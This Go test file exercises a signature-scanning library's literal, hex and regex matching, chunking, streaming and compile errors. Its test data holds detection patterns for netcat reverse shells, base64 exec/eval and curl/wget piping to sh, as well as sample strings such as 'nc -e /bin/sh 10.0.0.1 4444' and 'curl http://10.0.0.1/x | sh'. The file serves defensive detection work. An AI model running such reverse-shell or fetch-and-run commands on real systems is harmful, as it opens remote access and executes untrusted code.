package pattern

import (
	"bytes"
	"errors"
	"fmt"
	"math/rand/v2"
	"regexp"
	"regexp/syntax"
	"slices"
	"strings"
	"testing"
)

type hit struct {
	off int64
	n   int
}

func scanAll(t testing.TB, defs []Def, data []byte, opts ScanOptions) [][]hit {
	t.Helper()
	set, err := Compile(defs)
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}
	if opts.MaxMatchesPerPattern == 0 {
		opts.MaxMatchesPerPattern = 1 << 20
	}
	m, err := set.Scan(bytes.NewReader(data), int64(len(data)), opts)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	out := make([][]hit, len(defs))
	for i, pm := range m.Patterns {
		if pm.ID != defs[i].ID {
			t.Fatalf("pattern %d: ID %q, want %q", i, pm.ID, defs[i].ID)
		}
		if int64(len(pm.Matches)) != pm.Count {
			t.Fatalf("pattern %s: %d matches kept, count %d", pm.ID, len(pm.Matches), pm.Count)
		}
		for _, mt := range pm.Matches {
			want := data[mt.Offset : mt.Offset+int64(min(mt.Length, MaxEvidence))]
			if !bytes.Equal(mt.Data, want) {
				t.Fatalf("pattern %s: evidence %x at %d, want %x", pm.ID, mt.Data, mt.Offset, want)
			}
			out[i] = append(out[i], hit{mt.Offset, mt.Length})
		}
	}
	return out
}

func TestMatches(t *testing.T) {
	data := []byte("xxMZ\x90\x00\x03\x00 hello HeLLo h\x00e\x00l\x00l\x00o\x00 \x01AB\x02\x02\x02 aaaa abcabc zzz\xe9\xff\xe9 end")
	tests := []struct {
		def  Def
		want []hit
	}{
		{Def{Kind: Literal, Text: "hello"}, []hit{{9, 5}}},
		{Def{Kind: Literal, Text: "hello", Nocase: true}, []hit{{9, 5}, {15, 5}}},
		{Def{Kind: Literal, Text: "hello", Wide: true}, []hit{{21, 10}}},
		{Def{Kind: Literal, Text: "hello", Wide: true, ASCII: true}, []hit{{9, 5}, {21, 10}}},
		{Def{Kind: Hex, Text: "4D 5A 90 00"}, []hit{{2, 4}}},
		{Def{Kind: Hex, Text: "4D5A??00 0? 00"}, []hit{{2, 6}}},
		{Def{Kind: Hex, Text: "4D 5A ( 91 | 90 ) ?0"}, []hit{{2, 4}}},
		{Def{Kind: Hex, Text: "01 41 [1-4] 02"}, []hit{{32, 4}}},  // jumps take the fewest bytes
		{Def{Kind: Hex, Text: "01 41 42 [-] 02"}, []hit{{32, 4}}}, // unbounded jump
		{Def{Kind: Hex, Text: "41 42 ( 03 | 02 [1] 02 )"}, []hit{{33, 5}}},
		{Def{Kind: Regex, Text: "ab(c|cabc)"}, []hit{{44, 3}, {47, 3}}}, // first alternative wins
		{Def{Kind: Regex, Text: "aa+"}, []hit{{39, 4}, {40, 3}, {41, 2}}},
		{Def{Kind: Regex, Text: "HEL+O", Nocase: true}, []hit{{9, 5}, {15, 5}}},
		{Def{Kind: Regex, Text: "hel+o", Wide: true}, []hit{{21, 10}}},
		{Def{Kind: Regex, Text: `zz.\xff.`}, []hit{{52, 5}}}, // '.' is one byte, \xff the byte 0xFF
		{Def{Kind: Regex, Text: `lo [^\x00]{2}`}, []hit{{12, 5}}},
	}
	for i, tc := range tests {
		tc.def.ID = fmt.Sprintf("p%d", i)
		got := scanAll(t, []Def{tc.def}, data, ScanOptions{})[0]
		if fmt.Sprint(got) != fmt.Sprint(tc.want) {
			t.Errorf("%s %q (nocase=%v wide=%v): got %v, want %v", tc.def.Kind, tc.def.Text, tc.def.Nocase, tc.def.Wide, got, tc.want)
		}
	}
}

func TestChunkBoundaries(t *testing.T) {
	// Matches straddle every chunk boundary; a tiny chunk size forces many of them.
	var data []byte
	for i := 0; i < 3000; i++ {
		data = append(data, "..needle.."[i%10:]...)
		data = append(data, byte(i), 0xAB, 0xCD, byte(i>>8), 0xEF)
	}
	defs := []Def{
		{ID: "lit", Kind: Literal, Text: "needle"},
		{ID: "hex", Kind: Hex, Text: "AB CD ?? EF"},
		{ID: "jump", Kind: Hex, Text: "AB CD [1-20] 6E 65"},
		{ID: "re", Kind: Regex, Text: `ee[a-z]+\.`},
	}
	ref := scanAll(t, defs, data, ScanOptions{ChunkSize: 1 << 30})
	for _, cs := range []int{1, 7, 4096, 10000} {
		got := scanAll(t, defs, data, ScanOptions{ChunkSize: cs})
		for i := range defs {
			if fmt.Sprint(got[i]) != fmt.Sprint(ref[i]) {
				t.Errorf("chunk %d, %s: %d matches, want %d", cs, defs[i].ID, len(got[i]), len(ref[i]))
			}
		}
	}
	if len(ref[0]) == 0 || len(ref[1]) != 3000 || len(ref[3]) == 0 {
		t.Errorf("reference counts: %d %d %d %d", len(ref[0]), len(ref[1]), len(ref[2]), len(ref[3]))
	}
}

func TestMaxMatches(t *testing.T) {
	data := bytes.Repeat([]byte("abcd"), 1000)
	set, err := Compile([]Def{{ID: "a", Kind: Literal, Text: "abcd"}, {ID: "b", Kind: Literal, Text: "cdab", Wide: true, ASCII: true}})
	if err != nil {
		t.Fatal(err)
	}
	m, err := set.Scan(bytes.NewReader(data), int64(len(data)), ScanOptions{MaxMatchesPerPattern: 7})
	if err != nil {
		t.Fatal(err)
	}
	a := m.Get("a")
	if a.Count != 1000 || len(a.Matches) != 7 || a.Matches[6].Offset != 24 {
		t.Errorf("a: count %d, kept %d, last %+v", a.Count, len(a.Matches), a.Matches[len(a.Matches)-1])
	}
	if b := m.Get("b"); b.Count != 999 || len(b.Matches) != 7 || b.Matches[0].Offset != 2 {
		t.Errorf("b: count %d, kept %d", b.Count, len(b.Matches))
	}
	if m.Get("zz") != nil {
		t.Error("Get of an unknown ID is not nil")
	}
}

func TestCompileErrors(t *testing.T) {
	tests := []struct {
		def  Def
		col  int
		frag string
	}{
		{Def{Kind: Hex, Text: "4D 5A XX"}, 7, "not a hex digit"},
		{Def{Kind: Hex, Text: "4D 5A [2-1] 00 00"}, 7, "lower bound above"},
		{Def{Kind: Hex, Text: "4D 5A [5000] 00 00"}, 7, "limited to 4096"},
		{Def{Kind: Hex, Text: "[2] 4D 5A"}, 1, "cannot start with a jump"},
		{Def{Kind: Hex, Text: "4D 5A [2]"}, 9, "cannot end with a jump"},
		{Def{Kind: Hex, Text: "4D 5A ( 00 | 01"}, 7, "missing ')'"},
		{Def{Kind: Hex, Text: "4D 5A ( 00 | [-] 01 ) 01"}, 14, "unbounded jumps are not allowed inside"},
		{Def{Kind: Hex, Text: "4D 5A 0"}, 7, "two hex digits"},
		{Def{Kind: Hex, Text: "4D 5A | 00"}, 7, "outside an alternative"},
		{Def{Kind: Hex, Text: "4D 5A [1 00"}, 10, "missing ']'"},
		{Def{Kind: Hex, Text: "4D 5A ~00"}, 7, "not supported"},
		{Def{Kind: Hex, Text: "?? ??"}, 0, "no run of 2 or more fixed bytes"},
		{Def{Kind: Hex, Text: "4D ?? 5A"}, 0, "no run of 2"},
		{Def{Kind: Hex, Text: "4D 5A", Nocase: true}, 0, "do not apply to hex"},
		{Def{Kind: Regex, Text: "."}, 0, "no literal of 2 or more bytes"},
		{Def{Kind: Regex, Text: "a.b.c"}, 0, "no literal"},
		{Def{Kind: Regex, Text: "ab(c"}, 1, "missing closing )"},
		{Def{Kind: Regex, Text: "^abc"}, 0, "anchor ^"},
		{Def{Kind: Regex, Text: `\babc`}, 0, "word boundary"},
		{Def{Kind: Regex, Text: `abc\p{Greek}`}, 4, "invalid escape"},
		{Def{Kind: Literal, Text: "a"}, 0, "shorter than 2 bytes"},
		{Def{Kind: Literal, Text: ""}, 0, "empty"},
		{Def{Kind: 9, Text: "abc"}, 0, "unknown pattern kind"},
	}
	for _, tc := range tests {
		tc.def.ID = "x"
		_, err := Compile([]Def{{ID: "ok", Kind: Literal, Text: "fine"}, tc.def})
		var ce *CompileError
		if !errors.As(err, &ce) {
			t.Errorf("%q: error %v is not a *CompileError", tc.def.Text, err)
			continue
		}
		if ce.Index != 1 || ce.ID != "x" || ce.Column != tc.col || !strings.Contains(ce.Msg, tc.frag) {
			t.Errorf("%q: got index %d column %d %q, want column %d containing %q", tc.def.Text, ce.Index, ce.Column, ce.Msg, tc.col, tc.frag)
		}
	}
}

func TestAtoms(t *testing.T) {
	tests := []struct {
		def        Def
		atoms      string
		dmin, dmax int
	}{
		{Def{Kind: Literal, Text: "\x00\x00abcd\x00"}, "[abcd]", 2, 2},
		{Def{Kind: Literal, Text: "ab", Nocase: true}, "[AB Ab aB ab]", 0, 0},
		{Def{Kind: Hex, Text: "00 00 ?? 4D 5A 90 ?? 11 22 33"}, "[\x11\"3]", 7, 7},
		{Def{Kind: Hex, Text: "11 22 [1-3] 41 42 43 44"}, "[ABCD]", 3, 5},
		{Def{Kind: Regex, Text: `[a-z]+(foo|barb)x`}, "[barb foox]", 1, RegexWindow},
		// Words the parser factors (e(?:xec|val)) and a class before a group of words.
		{Def{Kind: Regex, Text: `(exec|eval)\s*\(\s*base64`}, "[eval exec]", 0, 0},
		{Def{Kind: Regex, Text: `[\s&(;|](nc|ncat|netcat)\s[^\n]*-e\s*(sh|bash)`}, "[nc ne]", 1, 1},
		{Def{Kind: Regex, Text: `(ab|cd)?(ef|gh)ij`}, "[abef abgh cdef cdgh efij ghij]", 0, 0},
		{Def{Kind: Regex, Text: `ab[cd]e`}, "[abce abde]", 0, 0},
	}
	for _, tc := range tests {
		cs, err := compileDef(0, tc.def)
		if err != nil {
			t.Errorf("%q: %v", tc.def.Text, err)
			continue
		}
		var got []string
		for _, a := range cs[0].atoms {
			got = append(got, string(a))
		}
		if s := fmt.Sprint(got); s != tc.atoms {
			t.Errorf("%q: atoms %q, want %q", tc.def.Text, s, tc.atoms)
		}
		if cs[0].sub.dmin != tc.dmin || cs[0].sub.dmax != tc.dmax {
			t.Errorf("%q: atom offset %d..%d, want %d..%d", tc.def.Text, cs[0].sub.dmin, cs[0].sub.dmax, tc.dmin, tc.dmax)
		}
	}
}

type errReaderAt struct{ n int64 }

func (e errReaderAt) ReadAt(p []byte, off int64) (int, error) {
	if off+int64(len(p)) > e.n {
		return 0, errors.New("device error")
	}
	clear(p)
	return len(p), nil
}

func TestReadError(t *testing.T) {
	set, err := Compile([]Def{{ID: "a", Kind: Literal, Text: "abcd"}})
	if err != nil {
		t.Fatal(err)
	}
	m, err := set.Scan(errReaderAt{n: 1 << 20}, 3<<20, ScanOptions{})
	if err == nil || !strings.Contains(err.Error(), "device error") || m == nil || len(m.Patterns) != 0 { // what was read matched nothing
		t.Fatalf("got %v, %v", m, err)
	}
}

func TestWorkBound(t *testing.T) {
	data := bytes.Repeat([]byte("abc"), 200000)
	set, err := Compile([]Def{{ID: "r", Kind: Regex, Text: "abc(?s:.)*"}})
	if err != nil {
		t.Fatal(err)
	}
	m, err := set.Scan(bytes.NewReader(data), int64(len(data)), ScanOptions{WorkFactor: 1})
	if !errors.Is(err, ErrWorkBound) || !m.Incomplete || m.Patterns[0].Count == 0 || m.Patterns[0].Count >= 200000 {
		t.Fatalf("got err %v, incomplete %v, count %d", err, m.Incomplete, m.Patterns[0].Count)
	}
}

func TestStream(t *testing.T) {
	var data []byte
	for i := 0; i < 5000; i++ {
		data = append(data, "..needle.."[i%10:]...)
		data = append(data, byte(i), 0xAB, 0xCD, byte(i>>8), 0xEF)
	}
	defs := []Def{
		{ID: "lit", Kind: Literal, Text: "needle", Wide: true, ASCII: true},
		{ID: "hex", Kind: Hex, Text: "AB CD ?? EF"},
		{ID: "jump", Kind: Hex, Text: "AB CD [1-20] 6E 65"},
		{ID: "re", Kind: Regex, Text: `ee[a-z]+\.`},
	}
	set, err := Compile(defs)
	if err != nil {
		t.Fatal(err)
	}
	opts := ScanOptions{MaxMatchesPerPattern: 1 << 20, ChunkSize: 4096}
	want, err := set.Scan(bytes.NewReader(data), int64(len(data)), opts)
	if err != nil {
		t.Fatal(err)
	}
	for _, piece := range []int{1, 3, 1000, 4096, 100000} {
		w := set.NewStream(opts, int64(len(data)))
		for d := data; len(d) > 0; {
			k := min(piece, len(d))
			if n, err := w.Write(d[:k]); n != k || err != nil {
				t.Fatalf("Write: %d, %v", n, err)
			}
			d = d[k:]
		}
		got, err := w.Close()
		if err != nil {
			t.Fatal(err)
		}
		for i := range defs {
			if g, w := got.Patterns[i], want.Patterns[i]; g.Count != w.Count || fmt.Sprint(g.Matches) != fmt.Sprint(w.Matches) {
				t.Errorf("pieces of %d, %s: count %d, want %d", piece, defs[i].ID, g.Count, w.Count)
			}
		}
	}
	if want.Patterns[1].Count != 5000 || want.Patterns[0].Count == 0 || want.Patterns[2].Count == 0 || want.Patterns[3].Count == 0 {
		t.Errorf("reference counts %d %d %d %d", want.Patterns[0].Count, want.Patterns[1].Count, want.Patterns[2].Count, want.Patterns[3].Count)
	}
}

// prefixOf compiles re as compileRegex does and returns its prefixDFA and anchored
// regexp.
func prefixOf(t *testing.T, re string) (*prefixDFA, *regexp.Regexp) {
	t.Helper()
	tree, err := syntax.Parse(latin1(re), regexFlags)
	if err != nil {
		t.Fatal(err)
	}
	tree = foldASCII(tree, false)
	prog, err := syntax.Compile(tree.Simplify())
	if err != nil {
		t.Fatal(err)
	}
	return newPrefixDFA(prog), regexp.MustCompile(`\A(?:` + tree.String() + `)`)
}

// TestPrefixDFA: which starts the automaton of a regex's first bytes lets through. It
// follows every path of the regex together: "adef" cannot begin (ab|cd)ef though each
// of its bytes can stand where it stands in some match.
func TestPrefixDFA(t *testing.T) {
	for _, tc := range []struct {
		re   string
		data string
		want bool
	}{
		{`(ab|cd)ef`, "abef", true},
		{`(ab|cd)ef`, "cdef", true},
		{`(ab|cd)ef`, "adef", false},
		{`(ab|cd)ef`, "cbef", false},
		{`(ab|cd)ef`, "abe", false}, // the data ends before a match could
		{`[;|](nc|ncat|netcat)\s-e`, ";nc -e", true},
		{`[;|](nc|ncat|netcat)\s-e`, "|netcat\t-e", true},
		{`[;|](nc|ncat|netcat)\s-e`, ";ncat -x", false},
		{`[;|](nc|ncat|netcat)\s-e`, "|nca -e", false},
		{`[;|](nc|ncat|netcat)\s-e`, ":nc -e", false},
		{`ab|abcd`, "ab", true}, // a match can end after two bytes
		{`(?i)xy[0-9]`, "XY7", true},
		{`(?i)xy[0-9]`, "xYa", false},
		{`\xe9t\xe9`, "\xe9t\xe9", true},
		{`\xe9t\xe9`, "\xe9te", false},
		{`a{20}b`, strings.Repeat("a", 16), true}, // undecided after 16 bytes: attempted
		{`a{20}b`, strings.Repeat("a", 10) + "b", false},
		{`[a-z]+=[0-9]{3}`, "abcdef=123", true},
		{`[a-z]+=[0-9]{3}`, "abcdef=12x", false},
	} {
		d, _ := prefixOf(t, tc.re)
		if d == nil {
			t.Fatalf("%s: no automaton", tc.re)
		}
		if got := d.canStart([]byte(tc.data), 0); got != tc.want {
			t.Errorf("%s at %q: %v, want %v", tc.re, tc.data, got, tc.want)
		}
	}
	// A regex that matches from any start a match follows has none: it would reject
	// nothing.
	if d, _ := prefixOf(t, `(?s).*abc`); d != nil {
		t.Errorf("(?s).*abc: an automaton, want none")
	}
	if d, _ := prefixOf(t, `.*abc`); d == nil || d.canStart([]byte("\nabc"), 0) {
		t.Errorf(".*abc: a start at a newline let through")
	}
}

// TestPrefixDFANeverRejectsAMatch runs generated regexes over data planted with their
// matches and checks every offset: the automaton lets through each start where the
// regex matches, and turns most others away.
func TestPrefixDFANeverRejectsAMatch(t *testing.T) {
	r := rand.New(rand.NewPCG(3, 4))
	sample := []byte("GET /index.html HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nUser-Agent: curl/7.88\r\n\x7fELF\x02\x01\xe9\x00/bin/sh -c 'nc -e /bin/sh 10.0.0.1 4444'")
	var matched, rejected, offsets int
	for n := 0; n < 300; n++ {
		off := r.IntN(len(sample) - 12)
		g := genRegex(r, sample[off:off+6+r.IntN(6)])
		if g.def.Nocase || g.def.Wide {
			continue
		}
		d, reA := prefixOf(t, g.def.Text)
		if d == nil {
			continue
		}
		data := append([]byte(nil), sample...)
		for _, p := range g.plants {
			data = append(data, p...)
			data = append(data, sample[r.IntN(len(sample)):]...)
		}
		for i := range data {
			offsets++
			// The bytes as regexp reads them: each byte the rune of its value.
			var text strings.Builder
			for _, c := range data[i:min(len(data), i+regexWindow)] {
				text.WriteRune(rune(c))
			}
			if reA.MatchString(text.String()) {
				matched++
				if !d.canStart(data, i) {
					t.Fatalf("%s matches at %d of %q but the automaton rejects the start", g.def.Text, i, data)
				}
			} else if !d.canStart(data, i) {
				rejected++
			}
		}
	}
	if matched == 0 || rejected < (offsets-matched)*3/4 {
		t.Errorf("%d offsets, %d matched, %d of the others rejected", offsets, matched, rejected)
	}
	t.Logf("%d offsets, %d matched, %d of the others rejected", offsets, matched, rejected)
}

// TestRegexHighBytes checks the two ways a regex window with bytes above 0x7F is
// matched: cut before the first such byte for a regex that cannot match one, and
// transcoded for one that can.
func TestRegexHighBytes(t *testing.T) {
	data := []byte("key=ab\x80cd! key=abcd! key=\xe9\xe8! key=!")
	tests := []struct {
		def  Def
		want []hit
	}{
		{Def{Kind: Regex, Text: `key=[a-z]+!`}, []hit{{11, 9}}},
		{Def{Kind: Regex, Text: `key=[^!]+!`}, []hit{{0, 10}, {11, 9}, {21, 7}}},
		{Def{Kind: Regex, Text: `key=[a-z\x80-\xff]+!`}, []hit{{0, 10}, {11, 9}, {21, 7}}},
		{Def{Kind: Regex, Text: `key=.{2}!`}, []hit{{21, 7}}}, // '.' is one byte, not one UTF-8 character
		{Def{Kind: Regex, Text: `KEY=[A-Z]+!`, Nocase: true}, []hit{{11, 9}}},
	}
	for i, tc := range tests {
		tc.def.ID = fmt.Sprintf("p%d", i)
		got := scanAll(t, []Def{tc.def}, data, ScanOptions{})[0]
		if fmt.Sprint(got) != fmt.Sprint(tc.want) {
			t.Errorf("%q (nocase=%v): got %v, want %v", tc.def.Text, tc.def.Nocase, got, tc.want)
		}
	}
	set, err := Compile([]Def{{ID: "a", Kind: Regex, Text: `key=[a-z]+!`}, {ID: "b", Kind: Regex, Text: `key=[^!]+!`}})
	if err != nil {
		t.Fatal(err)
	}
	if !set.subs[0].ascii || set.subs[1].ascii {
		t.Errorf("ascii: %v, %v; want true, false", set.subs[0].ascii, set.subs[1].ascii)
	}
}

// TestRegexClassesHoldBytesOnly checks that the classes of a compiled regex end at 0xFF:
// the text a regex meets is bytes or their Latin-1 transcoding, and printing a class
// that reaches 0x10FFFF for regexp.Compile looks up the case folding of every rune in it
// (a negated class cost milliseconds; the built-in packs took 0.44 s to compile, each
// scan twice). The matches are those of the classes as written.
func TestRegexClassesHoldBytesOnly(t *testing.T) {
	data := []byte("id=k\xe9y! id=K! id=\xff! id=\x00;")
	tests := []struct {
		def  Def
		want []hit
	}{
		{Def{Kind: Regex, Text: `id=[^!;]+!`}, []hit{{0, 7}, {8, 5}, {14, 5}}},
		{Def{Kind: Regex, Text: `id=\W[!;]`}, []hit{{14, 5}, {20, 5}}},
		{Def{Kind: Regex, Text: `id=[\x{100}-\x{10FFFF}\xff]!`}, []hit{{14, 5}}},
		{Def{Kind: Regex, Text: `id=(?i)k!`}, []hit{{8, 5}}}, // K folds to U+212A KELVIN SIGN in Unicode, not here
		{Def{Kind: Regex, Text: `id=[\x{100}-\x{200}]!`}, nil},
	}
	for i, tc := range tests {
		tc.def.ID = fmt.Sprintf("p%d", i)
		got := scanAll(t, []Def{tc.def}, data, ScanOptions{})[0]
		if fmt.Sprint(got) != fmt.Sprint(tc.want) {
			t.Errorf("%q: got %v, want %v", tc.def.Text, got, tc.want)
		}
		set, err := Compile([]Def{tc.def})
		if err != nil {
			t.Fatal(err)
		}
		tree, err := syntax.Parse(set.subs[0].reA.String(), syntax.Perl)
		if err != nil {
			t.Fatal(err)
		}
		if r := maxClassRune(tree); r > 0xFF {
			t.Errorf("%q compiles to %s, a class holding U+%04X", tc.def.Text, set.subs[0].reA, r)
		}
	}
}

// TestPrefixDFABuiltWhenFirstNeeded checks that compiling a regex does not build its
// prefix DFA (kensa compiles every rule pack's patterns before its walk worker, which
// matches, compiles them again) and that the first scan verifying the regex does.
func TestPrefixDFABuiltWhenFirstNeeded(t *testing.T) {
	set, err := Compile([]Def{{ID: "a", Kind: Regex, Text: `(ab|cd)efgh`}, {ID: "b", Kind: Regex, Text: `xy(z|w)uvw`}})
	if err != nil {
		t.Fatal(err)
	}
	for i := range set.subs {
		if set.subs[i].prefix.dfa != nil {
			t.Fatalf("sub %d: prefix DFA built at compile time", i)
		}
	}
	data := []byte("-- cdefgh --")
	m, err := set.Scan(bytes.NewReader(data), int64(len(data)), ScanOptions{MaxMatchesPerPattern: 10})
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Patterns) != 1 || m.Patterns[0].ID != "a" || len(m.Patterns[0].Matches) != 1 || m.Patterns[0].Matches[0].Offset != 3 {
		t.Errorf("matches %+v, want (ab|cd)efgh's at offset 3 only", m.Patterns)
	}
	if set.subs[0].prefix.dfa == nil || set.subs[0].prefix.prog != nil {
		t.Error("the scan that verified (ab|cd)efgh did not build its prefix DFA")
	}
	if set.subs[1].prefix.dfa != nil {
		t.Error("the prefix DFA of xy(z|w)uvw, whose atoms never occurred, was built")
	}
}

// maxClassRune is the largest rune any class of re holds.
func maxClassRune(re *syntax.Regexp) rune {
	var m rune
	if re.Op == syntax.OpCharClass && len(re.Rune) > 0 {
		m = re.Rune[len(re.Rune)-1]
	}
	for _, s := range re.Sub {
		m = max(m, maxClassRune(s))
	}
	return m
}

// TestScannerReuse scans different files one after another and at once with one set:
// a scan reuses an earlier scan's state and buffers, and must not see its matches.
func TestScannerReuse(t *testing.T) {
	defs := []Def{
		{ID: "lit", Kind: Literal, Text: "needle"},
		{ID: "hex", Kind: Hex, Text: "AB CD [1-4] EF"},
		{ID: "re", Kind: Regex, Text: `pass(word)?=[^ ]+`, Wide: true, ASCII: true},
	}
	set, err := Compile(defs)
	if err != nil {
		t.Fatal(err)
	}
	files := [][]byte{
		[]byte("a needle, \xab\xcd\x01\xef and password=x\xffy p\x00a\x00s\x00s\x00=\x00z\x00"),
		[]byte("nothing here"),
		bytes.Repeat([]byte("needle pass=1 "), 5000),
		{},
		[]byte("pass=\x80"),
	}
	scan := func(data []byte) string {
		m, err := set.Scan(bytes.NewReader(data), int64(len(data)), ScanOptions{ChunkSize: 4096})
		if err != nil {
			t.Error(err)
		}
		return fmt.Sprintf("%+v", m.Patterns)
	}
	want := make([]string, len(files))
	for i, f := range files {
		fresh, _ := Compile(defs)
		m, err := fresh.Scan(bytes.NewReader(f), int64(len(f)), ScanOptions{ChunkSize: 4096})
		if err != nil {
			t.Fatal(err)
		}
		want[i] = fmt.Sprintf("%+v", m.Patterns)
	}
	if want[1] != "[]" || want[0] == "[]" {
		t.Fatalf("reference results: %q, %q", want[0], want[1])
	}
	for round := range 3 {
		for i, f := range files {
			if got := scan(f); got != want[i] {
				t.Errorf("round %d, file %d: %s, want %s", round, i, got, want[i])
			}
		}
	}
	done := make(chan struct{})
	for g := range 4 {
		go func() {
			defer func() { done <- struct{}{} }()
			for k := range 50 {
				i := (g + k) % len(files)
				if got := scan(files[i]); got != want[i] {
					t.Errorf("concurrent scan of file %d: %s, want %s", i, got, want[i])
					return
				}
			}
		}()
	}
	for range 4 {
		<-done
	}
}

// Rules often share a pattern: identical definitions (but for the ID) are compiled and
// matched once and reported for each, in the order given, as if matched separately.
func TestSamePatternMatchedOnce(t *testing.T) {
	data := []byte("curl http://10.0.0.1/x | sh; wget http://example.org/ ; echo hello HELLO")
	defs := []Def{
		{ID: "a", Kind: Regex, Text: `(curl|wget)\s+http://[0-9.]+/`},
		{ID: "b", Kind: Literal, Text: "hello", Nocase: true},
		{ID: "c", Kind: Regex, Text: `(curl|wget)\s+http://[0-9.]+/`},
		{ID: "d", Kind: Literal, Text: "hello"},
		{ID: "e", Kind: Literal, Text: "hello", Nocase: true},
		{ID: "f", Kind: Literal, Text: "absent"},
		{ID: "g", Kind: Literal, Text: "absent"},
	}
	set, err := Compile(defs)
	if err != nil {
		t.Fatal(err)
	}
	if len(set.subs) != 4 {
		t.Errorf("%d subs compiled for 4 distinct patterns", len(set.subs))
	}
	together := scanAll(t, defs, data, ScanOptions{})
	for i, d := range defs {
		alone := scanAll(t, []Def{d}, data, ScanOptions{})[0]
		if fmt.Sprint(together[i]) != fmt.Sprint(alone) {
			t.Errorf("%s: %v together, %v alone", d.ID, together[i], alone)
		}
	}
	if fmt.Sprint(together[:5]) != "[[{0 21}] [{61 5} {67 5}] [{0 21}] [{61 5}] [{61 5} {67 5}]]" {
		t.Errorf("matches %v", together)
	}
}

// TestRegexFindsEveryStart compares the scan of regexes (generated ones, and ones whose
// atoms cross groups and alternatives) with the regex tried at every offset: choosing
// atoms and turning starts away must lose no match.
func TestRegexFindsEveryStart(t *testing.T) {
	r := rand.New(rand.NewPCG(5, 6))
	sample := []byte("x=1; exec(base64.b64decode('aGk=')) | nc -e /bin/sh 10.0.0.1 4444;\tncat --sh-exec bash\n|netcat.openbsd  -c sh\xe9 evil(eval  (  ab cd abef cdghij ghij\x00\x01")
	texts := []string{
		`(exec|eval)\s*\(\s*base64`,
		`[\t-\r &(;|](nc|ncat|netcat)(\.(traditional|openbsd))?\s[^\n&;|]*(-[ce]|--(sh-)?exec)\s*["']?[^\s"']*(sh|bash)`,
		`(ab|cd)?(ef|gh)ij`,
		`e(v(al|il)|xec)\s*\(`,
		`(a|b|)(nc|ne)t?`,
		`x{0,2}=[0-9]{1,3};`,
	}
	for len(texts) < 200 {
		off := r.IntN(len(sample) - 12)
		g := genRegex(r, sample[off:off+6+r.IntN(6)])
		if !g.def.Nocase && !g.def.Wide {
			texts = append(texts, g.def.Text)
		}
	}
	tried := 0
	for i, text := range texts {
		d := Def{ID: fmt.Sprint("r", i), Kind: Regex, Text: text}
		if _, err := Compile([]Def{d}); err != nil {
			continue
		}
		tried++
		reA := regexp.MustCompile(`\A(?:` + latin1(text) + `)`)
		var want []hit
		for s := range sample {
			var w strings.Builder
			for _, c := range sample[s:min(len(sample), s+RegexWindow)] {
				w.WriteRune(rune(c))
			}
			if loc := reA.FindStringIndex(w.String()); loc != nil {
				want = append(want, hit{int64(s), len([]rune(w.String()[:loc[1]]))})
			}
		}
		got := scanAll(t, []Def{d}, sample, ScanOptions{})[0]
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("%s: matches %v, want %v", text, got, want)
		}
	}
	if tried < 150 {
		t.Errorf("only %d regexes compiled", tried)
	}
}

// TestAutomatonHalves checks the automaton's hits against a search for each atom, on
// inputs long enough to be fed as two halves, with atoms across the middle at every
// offset near it.
func TestAutomatonHalves(t *testing.T) {
	atoms := [][]byte{[]byte("abcd"), []byte("bc"), []byte("cda"), []byte("dd"), []byte("xyz!")}
	a := buildAutomaton(atoms)
	r := rand.New(rand.NewPCG(1, 2))
	var pending []uint64
	for n := interleaveMin - 2; n < interleaveMin+40; n++ {
		data := make([]byte, n)
		for i := range data {
			data[i] = "abcdxyz!"[r.IntN(8)]
		}
		// An atom that ends in the first bytes of the second half.
		at := atoms[r.IntN(len(atoms))]
		copy(data[n/2+r.IntN(4)-len(at)+1:], at)
		var want []string
		for i := range data {
			for ai, at := range atoms {
				if i+1 >= len(at) && bytes.Equal(data[i+1-len(at):i+1], at) {
					want = append(want, fmt.Sprint(i, ":", ai))
				}
			}
		}
		var got []string
		a.next(0, data, &pending, func(i int, st uint32) bool {
			outs := a.outputs(st)
			ids := make([]int, len(outs))
			for k, o := range outs {
				ids[k] = int(o)
			}
			slices.Sort(ids)
			for _, ai := range ids {
				got = append(got, fmt.Sprint(i, ":", ai))
			}
			return true
		})
		if !slices.Equal(got, want) {
			t.Fatalf("%d bytes: hits %v, want %v", n, got, want)
		}
	}
}
